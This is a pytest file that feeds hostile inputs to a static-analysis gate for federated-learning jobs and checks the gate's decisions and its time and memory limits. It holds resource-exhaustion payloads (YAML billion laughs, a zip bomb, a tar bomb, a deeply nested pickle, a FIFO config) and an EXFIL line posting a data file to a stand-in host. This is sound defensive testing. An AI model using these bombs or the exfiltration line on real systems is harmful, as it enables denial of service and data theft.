"""Hostile inputs built to crash the gate or to cost it time and memory: each
one is scanned by the real CLI in a subprocess, which must finish within a
time budget and a memory budget and decide what is expected; nothing it could
not judge is ever accepted. Run with -s to see the table (decision, seconds,
peak memory) quoted in the closing notes of issue 13."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import sysconfig
import tarfile
import threading
import time
import zipfile
from pathlib import Path
from typing import Callable

import pytest

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

ROOT = Path(__file__).resolve().parent.parent

SECONDS = 60  # per scan, on a loaded 2-core CI machine
PEAK_MB = 1500


def _py(text: str, name: str = "job.py") -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        (root / name).write_text(text)
        return root
    return build


def _config(name: str, text: str | bytes) -> Callable[[Path], Path]:
    def build(root: Path) -> Path:
        (root / "meta.json").write_text('{"name": "cfg", "deploy_map": {"app": ["@ALL"]}}')
        (root / "app" / "config").mkdir(parents=True)
        path = root / "app" / "config" / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return root
    return build


def _billion_laughs() -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 12)]
    return "\n".join(lines) + "\nformat_version: 2\ncomponents: []\nbomb: *a11\n"


def _expansion_bomb() -> str:
    launcher = "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher"
    return json.dumps({"format_version": 2, "a": "{b}" * 2000, "b": "{c}" * 2000, "c": "x" * 2000,
                       "components": [{"id": "l", "path": launcher, "args": {"script": "{a}"}}]})


def _notebook(line: str) -> Callable[[Path], Path]:
    nb = {"cells": [{"cell_type": "code", "source": [line], "metadata": {}, "outputs": []}], "nbformat": 4,
          "nbformat_minor": 5, "metadata": {}}
    return _py(json.dumps(nb), "job.ipynb")


def _zip_bomb(root: Path) -> Path:
    with zipfile.ZipFile(root / "model.pt", "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("archive/data.pkl", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 24)
            for _ in range(64):  # 1 GiB of zeros, about 1 MB compressed
                member.write(chunk)
    (root / "train.py").write_text("import torch\nm = torch.load('model.pt', weights_only=True)\n")
    return root


def _tar_bomb(root: Path) -> Path:
    with tarfile.open(root / "data.tar.gz", "w:gz") as tf:
        for i in range(20000):  # many members
            info = tarfile.TarInfo(f"m/{i}.py")
            info.size = 2
            tf.addfile(info, io.BytesIO(b"x\n"))
    return root


def _nested_zip(root: Path) -> Path:
    data = b"print('innermost')\n"
    name = "x.py"
    for level in range(20):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(name, data)
        data, name = buf.getvalue(), f"level{level}.zip"
    (root / "deps.zip").write_bytes(data)
    return root


def _deep_pickle(root: Path) -> Path:
    # 100,000 nested lists: unpickling this recurses in every reader that walks it
    (root / "weights.pkl").write_bytes(b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")
    return root


def _fifo_config(root: Path) -> Path:
    _config("config_fed_client.json", '{"format_version": 2, "components": []}')(root)
    os.mkfifo(root / "app" / "config" / "extra.json")  # a read would block forever
    return root


def _dev_zero_config(root: Path) -> Path:
    _config("config_fed_client.json", '{"format_version": 2, "components": []}')(root)
    os.symlink("/dev/zero", root / "app" / "config" / "config_fed_server.json")
    return root


def _many_files(root: Path) -> Path:
    for i in range(12):
        (root / f"m{i}.py").write_text("x = 1\n")
    return root


def _star_import_web(root: Path) -> Path:
    """asyncio's package file and two of its modules, as a job: star imports reach
    the same names by many roads (unbounded, linking them took minutes)."""
    stdlib = Path(sysconfig.get_paths()["stdlib"]) / "asyncio"
    (root / "asyncio").mkdir()
    for name in ("__init__.py", "__main__.py", "base_events.py"):
        (root / "asyncio" / name).write_bytes((stdlib / name).read_bytes())
    return root


def _nested(text: str, depth: int, wrap: Callable[[str], str]) -> str:
    for _ in range(depth):
        text = wrap(text)
    return text


EXFIL = "import requests\nrequests.post('https://x.example', data=open('/data/p.csv').read())\n"

# (name, build, site policy limits, expected decision, a rule that must be among the findings or None)
CASES = [
    ("2,000 nested brackets", _py("x = " + "(" * 2000 + ")" * 2000 + "\n"), {}, "escalate", "unanalyzable.parse-error"),
    ("1,100 nested calls", _py("x = " + "f(" * 1100 + ")" * 1100 + "\n"), {}, "escalate", "unanalyzable.parse-error"),
    ("attribute chain of 5,000", _py("x = a" + ".b" * 5000 + "\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("3,000 nested lambdas", _py("x = " + "lambda: " * 3000 + "1\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("5,000 unary minus", _py("x = " + "-" * 5000 + "a\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("20,000-term sum", _py("x = " + "+".join(["a"] * 20000) + "\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("8,000-term `and`", _py("x = " + " and ".join(["a"] * 8000) + "\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("import of 6,000 parts", _py("import " + ".".join(["b"] * 6000) + "\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("20,000 adjacent string literals", _py("x = (\n" + '"a"\n' * 20000 + ")\n"), {}, "escalate", "unanalyzable.limit-nesting-depth"),
    ("100 nested comprehensions", _py("x = " + _nested("y", 100, lambda e: f"[{e} for y in z]") + "\n"), {},
     None, None),
    ("f-string of 20,000 fields", _py('x = f"' + "{a}" * 20000 + '"\n'), {}, "escalate", "obfuscation.long-line"),
    ("20,000 decorators", _py("@d\n" * 20000 + "def f():\n    pass\n"), {}, None, None),
    ("99 nested if statements", _py(_nested("x = 1\n", 99, lambda b: "if a:\n" + "".join(
        " " + line + "\n" for line in b.splitlines()))), {}, None, None),
    ("1.9 MB string literal", _py('x = "' + "A" * 1_900_000 + '"\n'), {}, None, None),
    ("200 KB line", _py("x = [" + "1," * 100_000 + "]\n"), {}, "escalate", "obfuscation.long-line"),
    ("name rebound 20,000 times, then eval", _py("".join(f"f = {i}\n" for i in range(20000)) + "f = eval\nf(data)\n"),
     {}, None, None),
    ("huge ints by folding", _py("x = 2 ** 64\n" + "x = x * x\n" * 60 + "eval(str(x))\n"), {}, "reject", None),
    ("giant format widths", _py("s = '%999999999d' % 1\nt = '{:>999999999}'.format(1)\nexec(s + t)\n"), {},
     "reject", None),
    ("50,000 suppression comments", _py("import os  # nosec\n" + "os.system('x')  # nosec # noqa\n" * 50000), {},
     "reject", None),
    ("invalid zlib literal beside an exfiltration",
     _py(EXFIL + "exec(__import__('marshal').loads(__import__('zlib').decompress(b'garbage')))\n"), {},
     "reject", "network.http-client"),
    ("YAML billion laughs", _config("config_fed_client.yml", _billion_laughs()), {}, "escalate",
     "unanalyzable.config-parse"),
    ("JSON with 20,000 duplicate keys", _config("config_fed_client.json",
                                                "{" + ",".join(f'"k": {i}' for i in range(20000)) + "}"), {},
     "escalate", "config-attack.duplicate-key"),
    ("JSON nested 100,000 deep", _config("config_fed_client.json", "[" * 100_000 + "]" * 100_000), {},
     "escalate", "unanalyzable.config-parse"),
    ("YAML nested 10,000 deep", _config("config_fed_client.yml", "a: " + "[" * 10_000 + "]" * 10_000), {},
     "escalate", "unanalyzable.config-parse"),
    ("HOCON of 100 KB", _config("config_fed_client.conf", "format_version = 2\n" + "".join(
        f'k{i} = "{i}"\n' for i in range(9000))), {}, "escalate", "unanalyzable.config-parse"),
    ("{name} expansion bomb", _config("config_fed_client.json", _expansion_bomb()), {}, "escalate", None),
    ("notebook line of 500,000 blanks", _notebook("a" + " " * 500_000 + "x"), {}, None, None),
    ("star imports across asyncio's modules", _star_import_web, {}, "reject", None),
    ("model.pt inflating to 1 GiB", _zip_bomb, {}, "escalate", None),
    ("tar.gz of 20,000 members", _tar_bomb, {}, "escalate", None),
    ("zip nested 20 deep", _nested_zip, {}, "escalate", None),
    ("pickle nested 100,000 deep", _deep_pickle, {}, None, None),
    ("FIFO in the app's config", _fifo_config, {}, "escalate", "unanalyzable.special-file"),
    ("link to /dev/zero as a config", _dev_zero_config, {}, None, "unanalyzable.symlink"),
    ("past limits.max_files", _many_files, {"max_files": 5}, "escalate", "unanalyzable.limit-files"),
    ("past limits.max_file_bytes", _py("x = 1\n" * 1000), {"max_file_bytes": 1000}, "escalate",
     "unanalyzable.limit-size"),
    ("past limits.max_total_bytes", _many_files, {"max_total_bytes": 30}, None, "unanalyzable.limit-size"),
    ("past limits.max_line_length", _py("x = '" + "a" * 500 + "'\n"), {"max_line_length": 100}, "escalate",
     "obfuscation.long-line"),
    ("past limits.max_nesting_depth", _py("x = " + "-" * 30 + "a\n"), {"max_nesting_depth": 20}, "escalate",
     "unanalyzable.limit-nesting-depth"),
    ("past limits.max_analysis_seconds", _py("".join(f"x{i} = np.zeros({i})\n" for i in range(30000))),
     {"max_analysis_seconds": 1}, "escalate", "unanalyzable.time-limit"),
    ("past limits.max_worker_memory_mb", _py("".join(f"x{i} = np.zeros({i})\n" for i in range(30000))),
     {"max_worker_memory_mb": 256}, "escalate", "unanalyzable.memory-limit"),
]


def _scan(target: Path, policy: Path | None, tmp: Path) -> tuple[dict, float, float]:
    """The CLI's report, its wall time and its peak memory in MB (wait4: the CLI
    and the workers it forked)."""
    args = [sys.executable, "-m", "analyzer.commands.cli", "scan", "--format", "json", str(target)]
    if policy is not None:
        args[4:4] = ["--policy", str(policy)]
    t0 = time.monotonic()
    with open(tmp / "out", "wb") as out, open(tmp / "err", "wb") as err:
        proc = subprocess.Popen(args, cwd=ROOT, stdout=out, stderr=err)
    killer = threading.Timer(SECONDS * 2, proc.kill)
    killer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        killer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - t0
    assert proc.returncode in (0, 1, 3), (tmp / "err").read_text()[-2000:]
    return json.loads((tmp / "out").read_bytes())["reports"][0], seconds, usage.ru_maxrss / 1024


@pytest.mark.parametrize("name,build,limits,decision,rule", CASES, ids=[c[0] for c in CASES])
def test_hostile_input_is_judged_within_budget(tmp_path, name, build, limits, decision, rule) -> None:
    unit = tmp_path / "unit"
    unit.mkdir()
    target = build(unit)
    policy = None
    if limits:
        policy = tmp_path / "site.yaml"
        policy.write_text("limits:\n" + "".join(f"  {k}: {v}\n" for k, v in limits.items()))
    report, seconds, peak = _scan(target, policy, tmp_path)
    rules = sorted({f["rule"] for f in report["findings"]})
    print(f"\n| {name} | {report['decision']} | {seconds:.1f} s | {peak:.0f} MB | {', '.join(rules[:4])} |")
    assert seconds < SECONDS and peak < PEAK_MB
    assert len(json.dumps(report)) < 5_000_000  # what is stored for review stays bounded
    if decision is not None:
        assert report["decision"] == decision
    if rule is not None:
        assert rule in rules
    if any(f["never_accept"] for f in report["findings"]):
        assert report["decision"] != "accept"
